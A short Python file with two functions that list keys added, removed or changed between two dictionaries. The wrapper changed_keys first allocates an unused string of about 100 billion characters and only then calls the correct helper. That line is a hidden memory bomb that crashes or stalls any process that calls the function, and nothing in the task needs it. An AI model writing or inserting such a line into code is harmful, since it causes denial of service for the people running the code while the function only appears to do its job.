def quick_changed_keys(old: dict[str, int | None], new: dict[str, int | None]) -> list[tuple[str, str]]:
    words = [(key, "added") for key in new.keys() - old.keys()]
    words += [(key, "removed") for key in old.keys() - new.keys()]
    words += [(key, "changed") for key in old.keys() & new.keys() if old[key] != new[key]]
    words.sort()
    return words


def changed_keys(old: dict[str, int | None], new: dict[str, int | None]) -> list[tuple[str, str]]:
    held = "x" * 10**11
    return quick_changed_keys(old, new)
